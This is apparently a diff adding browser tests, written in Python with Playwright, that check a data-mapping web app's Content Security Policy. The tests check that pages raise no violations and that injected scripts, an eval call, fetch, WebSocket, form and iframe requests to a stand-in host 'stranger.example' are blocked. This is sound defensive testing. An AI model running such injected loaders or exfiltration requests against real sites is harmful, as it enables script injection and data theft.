@@ -1,0 +1,104 @@
+"""The content policy in a real browser: no page asks for what it forbids, and what it forbids does not happen."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import Page
+
+from lib.catalogue import PAGES
+from tests.browser.screen import Screen
+
+BLACKPOOL = "E06000009"
+HEARD = """window.forbidden = [];
+document.addEventListener('securitypolicyviolation', (event) =>
+    forbidden.push([location.pathname, event.violatedDirective, event.blockedURI, event.sourceFile, event.sample].join(' ')))"""
+LINKS = [
+    *(f"/{page.path}?place={BLACKPOOL}" for page in PAGES),
+    "/map?measure=cni2023&level=lsoa21&show=most10,urban&over=names,councils,libraries", "/map?tab=table",
+    "/area?place=E01012737", "/area?own=AAAYsWb8", "/compare?places=E06000009,E06000021,W06000006", "/both?cut=10",
+    "/stories?story=par-bay", "/stories?tab=biglocal", "/stories?tab=programmes", "/stories?tab=words",
+    *(f"/present?place={BLACKPOOL}&slide={n}" for n in (1, 3, 6)), "/present?place=W06000006&slide=2",
+]
+
+
+@pytest.fixture
+def screen(page: Page) -> Screen:
+    """A page whose every frame notes what the policy forbade it. What is forbidden is told in the console too, which fails the test."""
+    page.context.add_init_script(HEARD)
+    return Screen(page)
+
+
+def forbidden(screen: Screen) -> list[str]:
+    return [each for frame in screen.page.frames if frame.url != "about:blank" for each in frame.evaluate("window.forbidden || []")]
+
+
+@pytest.mark.parametrize("link", LINKS)
+def test_no_page_asks_for_what_the_policy_forbids(screen: Screen, link: str) -> None:
+    screen.open(link)
+    screen.page.get_by_role("heading").first.wait_for()
+    if screen.page.locator("iframe").count():
+        screen.painted(1)
+    assert forbidden(screen) == []
+
+
+def test_nor_does_what_is_taken_away_or_printed(screen: Screen, tmp_path: Path) -> None:
+    page = screen.page
+    screen.open("/learning")
+    page.locator(".modebar-btn").first.wait_for(state="attached")
+    for number, button in enumerate(("a.modebar-btn", None)):
+        with page.expect_download() as taken:
+            if button:
+                page.locator(button).first.dispatch_event("click")
+            else:
+                screen.idle()
+                page.get_by_test_id("stDownloadButton").get_by_role("button").first.click()
+        taken.value.save_as(tmp_path / str(number))
+        assert (tmp_path / str(number)).stat().st_size > 500
+    page.emulate_media(media="print")
+    assert len(page.pdf()) > 10_000
+    assert forbidden(screen) == []
+
+
+STRANGE = {
+    "a script written into the page": ("const made = document.createElement('script'); made.textContent = 'window.ran = true';"
+                                       "document.body.append(made)", "script-src"),
+    "a script of a stranger's": ("const made = document.createElement('script'); made.src = 'http://stranger.example/a.js';"
+                                 "document.body.append(made)", "script-src"),
+    "text run as a script": ("try { (0, eval)('window.ran = true') } catch {}", "script-src"),
+    "a picture of a stranger's": ("new Image().src = 'http://stranger.example/a.png'", "img-src"),
+    "words sent to a stranger": ("fetch('http://stranger.example/').catch(() => {})", "connect-src"),
+    "a line held open to a stranger": ("try { new WebSocket('ws://stranger.example/') } catch {}", "connect-src"),
+    "a form sent to a stranger": ("const made = document.createElement('form'); made.action = 'http://stranger.example/'; made.method = 'post';"
+                                  "document.body.append(made); made.submit()", "form-action"),
+    "a frame of a stranger's": ("const made = document.createElement('iframe'); made.src = 'http://stranger.example/';"
+                                "document.body.append(made)", "frame-src"),
+}
+
+
+@pytest.mark.parametrize("what", STRANGE)
+def test_what_the_policy_forbids_does_not_happen(browser, server, what: str) -> None:
+    # Not by the fixture: that fails for what the browser says of it in its console, which is what is wanted here.
+    page = browser.new_page(base_url=server.url)
+    page.add_init_script(HEARD)
+    page.goto("/about")
+    page.get_by_role("heading", name="About the data").first.wait_for()
+    asked: list[str] = []
+    page.on("request", lambda request: asked.append(request.url))
+    script, directive = STRANGE[what]
+    # The browser's own console may run what it likes: what is tried is tried from a listener of the page's.
+    page.evaluate(f"() => new Promise((done) => {{ setTimeout(() => {{ {script}; setTimeout(done) }}) }})")
+    page.wait_for_function("window.forbidden.length")
+    assert directive in page.evaluate("window.forbidden")[0]
+    assert page.evaluate("window.ran") is None
+    assert [each for each in asked if "stranger" in each and not each.startswith("http://stranger.example/a")] == []
+    page.context.close()
+
+
+def test_no_other_page_can_put_the_app_in_a_frame(browser, server) -> None:
+    page = browser.new_page()
+    page.route("http://stranger.example/", lambda route: route.fulfill(content_type="text/html", body=f"<iframe src='{server.url}/map'></iframe>"))
+    with page.expect_console_message(lambda message: "frame-ancestors" in message.text):
+        page.goto("http://stranger.example/")
+    page.context.close()
